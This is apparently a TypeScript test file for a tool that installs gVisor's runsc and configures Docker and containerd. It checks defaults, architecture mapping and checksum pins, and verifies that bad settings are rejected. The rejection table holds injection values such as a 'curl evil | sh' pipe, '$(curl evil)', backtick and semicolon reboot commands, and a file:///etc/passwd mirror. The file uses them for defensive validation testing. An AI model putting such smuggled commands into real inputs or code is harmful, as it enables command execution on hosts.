import { describe, expect, it } from "vitest";
import { DEFAULT_OVERHEAD_ROUNDS, DEFAULT_VERIFY_IMAGE, buildHostPlan } from "../../src/plan/host-plan";
import { stepAssignments } from "../../src/scripts/render";
import { DEFAULT_GVISOR_VERSION, MAX_DOWNLOAD_BYTES } from "../../src/plan/release";

describe("buildHostPlan", () => {
  it("defaults to a pinned release, Docker only, enforced verification, any arch", () => {
    const plan = buildHostPlan({});
    expect(plan.release.version).toBe(DEFAULT_GVISOR_VERSION);
    expect(plan.arch).toBeUndefined();
    expect(plan.runscPath).toBe("/usr/local/bin/runsc");
    expect(plan.docker).toMatchObject({ enabled: true, runtimeName: "runsc", defaultRuntime: false, configPath: "/etc/docker/daemon.json" });
    expect(plan.docker.runtimeEntry).toEqual({ path: "/usr/local/bin/runsc", runtimeArgs: [] });
    expect(plan.containerd).toMatchObject({ enabled: false, runtimeName: "runsc", configPath: "/etc/containerd/config.toml", runscConfigPath: "/etc/containerd/runsc.toml" });
    expect(plan.verify).toEqual({ image: DEFAULT_VERIFY_IMAGE, enforce: true });
  });

  it("maps arm64 to gVisor's aarch64 directory and carries options into both engines", () => {
    const plan = buildHostPlan({
      arch: "arm64",
      installDir: "/opt/gvisor/bin",
      runsc: { network: "none" },
      docker: { runtimeName: "gvisor", defaultRuntime: true },
      containerd: { enabled: true, runtimeName: "gvisor" },
    });
    expect(plan.gvisorArch).toBe("aarch64");
    expect(plan.docker.runtimeEntry).toEqual({ path: "/opt/gvisor/bin/runsc", runtimeArgs: ["--network=none"] });
    expect(plan.containerd.runscToml).toContain('network = "none"');
    expect(plan.containerd.blockV2).toContain("runtimes.gvisor]");
    expect(plan.containerd.blockV3).toContain("runtimes.gvisor]");
  });

  it("carries sha512 pins, the archives, the kernel floor and the download cap into the plan", () => {
    const hex = "0123456789abcdef".repeat(8);
    const plan = buildHostPlan({ sha512: { aarch64: hex } });
    expect(plan.sha512Pins).toEqual({ aarch64: hex });
    expect(plan.release.archives).toEqual(["gvisor.tar.zstd", "gvisor.tar.bz2"]);
    expect(plan.release.kernelFloor).toBe("5.6");
    expect(plan.downloadMaxBytes).toBe(MAX_DOWNLOAD_BYTES);
    expect(buildHostPlan({}).sha512Pins).toEqual({});
    // They reach the install step as one shell-quoted word list, and no other step.
    expect(stepAssignments(plan, "install")).toContain(`GV_SHA512_PINS='aarch64=${hex}'`);
    expect(stepAssignments(plan, "verify").join("\n")).not.toContain(hex);
  });

  // Every bad input is refused with the property path and a reason.
  it.each([
    [{ version: "latest; curl evil | sh" }, "version", /must be a dated release/],
    [{ version: "`reboot`" }, "version", /must be a dated release/],
    [{ mirror: "https://m/$(id)" }, "mirror", /characters that do not belong/],
    [{ mirror: "file:///etc/passwd" }, "mirror", /http\(s\) URL/],
    [{ arch: "i386" }, "arch", /must be "x86_64" or "arm64"/],
    [{ arch: "x86_64;id" }, "arch", /must be "x86_64" or "arm64"/],
    [{ installDir: "usr/local/bin" }, "installDir", /absolute path/],
    [{ installDir: "/usr/local/bin/../../etc" }, "installDir", /"\." or "\.\." segments/],
    [{ installDir: "/opt/$(id)" }, "installDir", /may contain only/],
    [{ installDir: "/opt/g visor" }, "installDir", /may contain only/],
    [{ docker: { runtimeName: "runsc;reboot" } }, "docker.runtimeName", /letters, digits/],
    [{ docker: { runtimeName: "runsc'" } }, "docker.runtimeName", /letters, digits/],
    [{ docker: { runtimeName: "" } }, "docker.runtimeName", /must not be empty/],
    [{ docker: { runtimeName: "runc" } }, "docker.runtimeName", /built-in runtime/],
    [{ docker: { defaultRuntime: "yes" } }, "docker.defaultRuntime", /true or false/],
    [{ docker: { configPath: "/etc/docker/daemon.json\n" } }, "docker.configPath", /control characters/],
    [{ docker: { runtime: "runsc" } }, "docker.runtime", /not a known setting/],
    [{ docker: "yes" }, "docker", /must be an object/],
    [{ containerd: { enabled: true, runtimeName: "Runsc" } }, "containerd.runtimeName", /DNS label/],
    [{ containerd: { enabled: true, runtimeName: "runsc.v1" } }, "containerd.runtimeName", /DNS label/],
    [{ containerd: { enabled: true, runtimeName: "runsc]\n[x" } }, "containerd.runtimeName", /control characters/],
    [{ containerd: { runscConfigPath: "runsc.toml" } }, "containerd.runscConfigPath", /absolute path/],
    [{ verify: { image: "busybox; reboot" } }, "verify.image", /not a valid image reference/],
    [{ verify: { image: "$(curl evil)" } }, "verify.image", /not a valid image reference/],
    [{ verify: { enforce: 1 } }, "verify.enforce", /true or false/],
    [{ verify: { measureOverhead: "yes" } }, "verify.measureOverhead", /must be true or false, got "yes"/],
    [{ verify: { measureOverhead: true, overheadRounds: 0 } }, "verify.overheadRounds", /whole number from 1 to 20, got 0/],
    [{ verify: { measureOverhead: true, overheadRounds: 21 } }, "verify.overheadRounds", /whole number from 1 to 20, got 21/],
    [{ verify: { measureOverhead: true, overheadRounds: 2.5 } }, "verify.overheadRounds", /whole number from 1 to 20, got 2\.5/],
    [{ verify: { measureOverhead: true, overheadRounds: "3" } }, "verify.overheadRounds", /whole number from 1 to 20, got "3"/],
    [{ verify: { overheadRounds: 3 } }, "verify.overheadRounds", /is set, but verify\.measureOverhead is not true/],
    [{ verify: { measureOverhead: false, overheadRounds: 3 } }, "verify.overheadRounds", /is set, but verify\.measureOverhead is not true/],
    [{ verify: { measureOverhed: true } }, "verify.measureOverhed", /not a known setting; known: image, enforce, measureOverhead, overheadRounds/],
    [{ runsc: { extraFlags: { "debug-command": "a b" } } }, 'runsc.extraFlags["debug-command"]', /whitespace/],
    [{ runsc: { vfs2: true } }, "runsc.vfs2", /deprecated/],
    [{ sha512: { x86_64: "00" } }, "sha512.x86_64", /128 hex digits/],
    [{ sha512: { amd64: "0".repeat(128) } }, "sha512.amd64", /"x86_64" or "aarch64"/],
    [{ version: "20260601.0", sha512: { x86_64: "0".repeat(128) } }, "sha512", /does not ship/],
    [{ mirror: "https://me:hunter2@mirror.internal/gvisor" }, "mirror", /must not carry credentials/],
    [{ docker: { enabled: false } }, "args", /neither docker nor containerd/],
    [{ verion: "20261020" }, "args.verion", /not a known setting/],
  ])("refuses %j at %s", (input, path, message) => {
    const build = () => buildHostPlan(input as never);
    expect(build).toThrowError(new RegExp(`^${path.replace(/[[\]."]/g, "\\$&")}: `));
    expect(build).toThrowError(message);
  });

  it("prefixes property paths with the caller's root", () => {
    expect(() => buildHostPlan({ docker: { runtimeName: "runc" } }, "args")).toThrowError(/^args\.docker\.runtimeName: /);
  });

  it("measures the sandbox cost only when asked, with 3 rounds unless told, and says so only to the verify step", () => {
    expect(buildHostPlan({}).verify.overheadRounds).toBeUndefined();
    expect(buildHostPlan({ verify: { measureOverhead: false } }).verify).toEqual(buildHostPlan({}).verify);
    expect(buildHostPlan({ verify: { measureOverhead: true } }).verify.overheadRounds).toBe(DEFAULT_OVERHEAD_ROUNDS);
    expect(DEFAULT_OVERHEAD_ROUNDS).toBe(3);
    const plan = buildHostPlan({ verify: { measureOverhead: true, overheadRounds: 7 } });
    expect(plan.verify).toEqual({ image: DEFAULT_VERIFY_IMAGE, enforce: true, overheadRounds: 7 });
    expect(stepAssignments(plan, "verify")).toContain("GV_VERIFY_OVERHEAD_ROUNDS='7'");
    for (const step of ["install", "configure-docker", "configure-containerd", "uninstall"] as const) {
      expect(stepAssignments(plan, step).join("\n")).not.toContain("GV_VERIFY_OVERHEAD_ROUNDS");
    }
  });

  it("names the caller's root in the overheadRounds refusal", () => {
    expect(() => buildHostPlan({ verify: { overheadRounds: 3 } }, "args")).toThrowError(/^args\.verify\.overheadRounds: is set, but args\.verify\.measureOverhead is not true/);
  });

  it("accepts image references with registry ports, paths, tags and digests", () => {
    for (const image of ["local/busybox:latest", "registry.example.com:5000/team/busybox:1.36", `busybox@sha256:${"a".repeat(64)}`]) {
      expect(buildHostPlan({ verify: { image } }).verify.image).toBe(image);
    }
  });
});
